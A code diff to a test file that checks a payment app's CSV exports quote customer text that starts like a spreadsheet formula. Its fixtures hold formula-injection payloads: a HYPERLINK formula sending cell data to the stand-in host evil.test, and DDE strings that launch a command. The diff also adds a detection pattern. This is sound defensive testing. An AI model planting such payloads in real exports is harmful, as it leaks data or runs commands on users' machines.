@@ -1,8 +1,9 @@
 /**
- * CSV exports cannot run formulas in the merchant's spreadsheet (issue 11): a text cell a
- * customer controls that starts with =, +, -, @, a tab or a carriage return is written with a
- * leading quote — through the whole export, streamed or as a job's file — while amounts,
- * negative ones included, stay numbers.
+ * CSV exports cannot run formulas in the merchant's spreadsheet: a text cell a customer
+ * controls that starts with =, +, -, @ (or their full-width forms), a tab or a carriage return is
+ * written with a leading quote, and so is such a start after any separator a spreadsheet may
+ * split on (a semicolon in French and German ones); NUL characters are dropped — through the
+ * whole export, streamed or as a job's file — while amounts, negative ones included, stay numbers.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { runPendingJobs } from "../../../src/jobs/runner.ts";
@@ -19,14 +20,26 @@ import { insertDispute, insertPayment } from "../../support/charge-fixtures.ts";
 import { BASE } from "../../support/invariants.ts";
 import { ledgerRow } from "../../support/payout-fixtures.ts";
 
-const FORMULAS = [
-	'=HYPERLINK("http://evil.test/?"&A1,"Click")',
-	"+1+cmd|' /C calc'!A0",
-	"-2+3",
-	"@SUM(1+1)*cmd|' /C calc'!A0",
-	"\t=1+1",
-	"\r=1+1",
+/** What a customer typed, and the cell a spreadsheet must receive: text, never a formula. */
+const WRITTEN: readonly (readonly [string, string])[] = [
+	['=HYPERLINK("http://evil.test/?"&A1,"Click")', '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'],
+	["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+	["-2+3", "'-2+3"],
+	["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+	// A tab or carriage return starts a cell of its own where a spreadsheet splits on it.
+	["\t=1+1", "'\t'=1+1"],
+	["\r=1+1", "'\r'=1+1"],
+	// After a semicolon, which French and German spreadsheets split on.
+	["Jo;=1+2", "Jo;'=1+2"],
+	// Full-width starters, which some spreadsheets read as = + - @.
+	["\uFF1D1+2", "'\uFF1D1+2"],
+	["\uFF20SUM(A1)", "'\uFF20SUM(A1)"],
+	// A NUL would cut the cell short in a spreadsheet.
+	["Jo\u0000=1", "Jo=1"],
 ];
+const FORMULAS = WRITTEN.map(([typed]) => typed);
+/** Where a spreadsheet may start a cell: the text's start, and after any separator it splits on. */
+const CELL_STARTS = /(?:^|[,;\t|\r\n])[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
 const now = TEST_NOW.getTime() / 1000;
 let t: TestApp;
 let manager: Actor;
@@ -93,11 +106,11 @@ function column(csv: string, header: string): string[] {
 	return records.map((record) => record[index] ?? "");
 }
 
-/** No cell a spreadsheet would evaluate: each formula arrives with its leading quote. */
+/** No cell a spreadsheet would evaluate: each formula arrives as text, with its leading quotes. */
 function expectNeutralised(cells: string[]): void {
 	expect(cells.length).toBeGreaterThanOrEqual(FORMULAS.length);
-	for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
-	for (const formula of FORMULAS) expect(cells.some((cell) => cell === `'${formula}`)).toBe(true);
+	for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(CELL_STARTS);
+	for (const [typed, written] of WRITTEN) expect(cells, JSON.stringify(typed)).toContain(written);
 }
 
 const download = (path: string) =>
@@ -111,7 +124,7 @@ describe("exports neutralise formulas in customer-controlled cells", () => {
 		const csv = await download("/transactions/download");
 		expectNeutralised(column(csv, "Customer name"));
 		expectNeutralised(column(csv, "Order #"));
-		for (const cell of column(csv, "Customer email")) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+		for (const cell of column(csv, "Customer email")) expect(cell).not.toMatch(CELL_STARTS);
 		expect(column(csv, "Net")).toContain("-12.50");
 	});
 
